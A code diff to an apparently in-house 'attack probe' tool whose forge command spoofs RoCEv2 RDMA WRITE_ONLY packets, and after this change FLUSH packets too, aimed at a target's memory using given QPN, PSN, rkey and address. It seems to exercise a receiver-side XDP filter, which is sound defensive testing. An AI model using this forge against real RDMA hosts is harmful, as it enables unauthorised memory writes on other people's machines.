@@ -1,7 +1,9 @@
-// xroce_attack_probe forge: one RDMA WRITE_ONLY datagram, as a peer's NIC would send it, sent
-// through the kernel's UDP socket from SRC:SPORT to DST:4791. The ICRC covers the IP and UDP
-// headers (TTL, TOS and the UDP checksum masked), so the packet is encoded with exactly what the
-// kernel will put around it: an unconnected socket with DF set sends IPv4 ID 0.
+// xroce_attack_probe forge: one RDMA WRITE_ONLY datagram (or, with the optional last argument
+// "flush", a FLUSH of the LEN bytes at VA with placement type global and no payload), as a peer's
+// NIC would send it, sent through the kernel's UDP socket from SRC:SPORT to DST:4791. The ICRC
+// covers the IP and UDP headers (TTL, TOS and the UDP checksum masked), so the packet is encoded
+// with exactly what the kernel will put around it: an unconnected socket with DF set sends IPv4 ID
+// 0.
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
@@ -9,6 +11,7 @@
 
 #include <cstdio>
 #include <cstdlib>
+#include <string_view>
 #include <vector>
 
 #include "attack_probe.h"
@@ -27,12 +30,13 @@ uint64_t number(const char* text) {
 
 }  // namespace
 
-// SRC DST SPORT QPN PSN RKEY VA LEN BYTE
+// SRC DST SPORT QPN PSN RKEY VA LEN BYTE [flush]
 int forge(int argc, char** argv) {
   if (argc < 9) {
-    std::fprintf(stderr, "forge SRC DST SPORT QPN PSN RKEY VA LEN BYTE\n");
+    std::fprintf(stderr, "forge SRC DST SPORT QPN PSN RKEY VA LEN BYTE [flush]\n");
     return 2;
   }
+  const bool flush = argc > 9 && std::string_view(argv[9]) == "flush";
   in_addr src{};
   in_addr dst{};
   if (inet_pton(AF_INET, argv[0], &src) != 1 || inet_pton(AF_INET, argv[1], &dst) != 1) return 2;
@@ -51,7 +55,12 @@ int forge(int argc, char** argv) {
   const auto length = static_cast<uint32_t>(number(argv[7]));
   hdr.reth =
       wire::Reth{number(argv[6]), wire::Rkey(static_cast<uint32_t>(number(argv[5]))), length};
-  const std::vector<uint8_t> payload(length, static_cast<uint8_t>(number(argv[8])));
+  if (flush) {
+    hdr.bth.opcode = wire::Opcode::kRcFlush;
+    hdr.feth = wire::Feth{wire::flush_placement::kGlobal,
+                          static_cast<uint8_t>(wire::FlushSelectivity::kRange)};
+  }
+  const std::vector<uint8_t> payload(flush ? 0 : length, static_cast<uint8_t>(number(argv[8])));
   std::vector<uint8_t> frame(length + 256);
   const auto encoded = wire::encode_frame(addr, hdr, payload, frame);
   if (!encoded) return 1;
@@ -59,6 +68,10 @@ int forge(int argc, char** argv) {
   const int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
   const int dont_fragment = IP_PMTUDISC_DO;
   setsockopt(sock, IPPROTO_IP, IP_MTU_DISCOVER, &dont_fragment, sizeof dont_fragment);
+  // UDP checksum 0, as RoCE NICs and rxe send: otherwise a veth hands the receiver's XDP program
+  // a datagram whose checksum the kernel never completed (CHECKSUM_PARTIAL).
+  const int no_check = 1;
+  setsockopt(sock, SOL_SOCKET, SO_NO_CHECK, &no_check, sizeof no_check);
   sockaddr_in from{};
   from.sin_family = AF_INET;
   from.sin_addr = src;
